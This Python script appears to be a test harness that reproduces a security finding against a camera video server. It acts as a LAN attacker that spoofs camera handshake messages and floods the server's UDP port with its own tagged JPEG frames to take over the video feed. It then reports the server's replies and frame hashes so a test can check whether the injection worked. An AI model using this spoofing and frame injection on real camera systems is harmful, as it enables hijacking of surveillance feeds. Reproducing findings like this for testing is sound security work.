#!/usr/bin/env python3
"""A LAN attacker trying to take over a camera's video (issue 9, finding 1).

    attacker.py BIND_IP SERVER_IP PORT UID SECONDS JPEG

From BIND_IP (another host's address, e.g. 127.0.0.2), for SECONDS: spam
the server's camera UDP port with {"code":20}, {"code":51,"devTarget":UID}
and its own JPEG frames (JPEG with an "attacker frame N" COM segment, one
datagram each, cmd 1, msg_flag 255, size trailer), every 2 ms; answer any
code 50 with a 51 as the camera would.  At the end (or on SIGTERM) print one JSON line:
what it sent and what the server sent back (by cmd / JSON code), and the
sha256 of every frame it sent, so a test can tell its frames apart.
"""
import hashlib
import json
import signal
import socket
import struct
import sys
import time


def hdr(length, cmd, flag=0, pkg=0):
    return struct.pack("<IHBB8sI", length, cmd, flag, 0, b"\0" * 8, pkg)


def msg(cmd, payload, flag=0, pkg=0):
    return hdr(len(payload), cmd, flag, pkg) + payload


def main():
    bind_ip, srv_ip, port, uid, secs, jpeg_path = sys.argv[1:7]
    port, secs = int(port), float(secs)
    base = open(jpeg_path, "rb").read()
    assert base[:2] == b"\xff\xd8"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((bind_ip, 0))
    s.setblocking(False)
    dst = (srv_ip, port)
    j20 = msg(0, b'{"code":20}')
    j51 = msg(0, json.dumps({"code": 51, "devTarget": uid,
                             "status": 200}).encode())
    sent = {"20": 0, "51": 0, "frames": 0}
    got = {}
    shas = set()
    end = time.monotonic() + secs
    signal.signal(signal.SIGTERM, lambda *a: sys.exit(0))
    try:
        spam(s, dst, base, j20, j51, sent, got, shas, end)
    finally:
        print(json.dumps({"sent": sent, "got": got,
                          "sha256": sorted(shas)}), flush=True)


def spam(s, dst, base, j20, j51, sent, got, shas, end):
    pkg = 7000000
    n = 0
    while time.monotonic() < end:
        n += 1
        com = b"attacker frame %d" % n
        frame = base[:2] + b"\xff\xfe" + struct.pack(">H", len(com) + 2) + \
            com + base[2:]
        shas.add(hashlib.sha256(frame).hexdigest())
        try:
            s.sendto(j20, dst)
            s.sendto(j51, dst)
            s.sendto(msg(1, frame + struct.pack("<I", len(frame)), 255,
                         pkg), dst)
            sent["20"] += 1
            sent["51"] += 1
            sent["frames"] += 1
        except (BlockingIOError, ConnectionRefusedError):
            pass
        pkg += 1
        while True:
            try:
                d, _ = s.recvfrom(4096)
            except (BlockingIOError, ConnectionRefusedError):
                break
            if len(d) < 20:
                continue
            cmd = struct.unpack_from("<H", d, 4)[0]
            key = "cmd%d" % cmd
            if cmd == 0:
                try:
                    key = "code%d" % json.loads(d[20:])["code"]
                except (ValueError, KeyError, TypeError):
                    pass
            got[key] = got.get(key, 0) + 1
            if key == "code50":
                s.sendto(j51, dst)
        time.sleep(0.002)


if __name__ == "__main__":
    main()
